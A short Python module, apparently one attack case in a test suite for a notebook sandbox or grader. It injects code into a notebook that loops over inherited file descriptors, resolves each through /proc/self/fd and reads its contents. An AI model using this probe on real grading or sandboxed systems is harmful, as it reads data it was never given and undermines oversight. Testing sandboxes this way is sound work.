"""Reads whatever its inherited descriptors hold."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os
for fd in range(3, 64):
    try:
        os.set_blocking(fd, False); print(fd, os.readlink(f'/proc/self/fd/{fd}'), os.read(fd, 100000))
    except OSError: pass
""",
    )
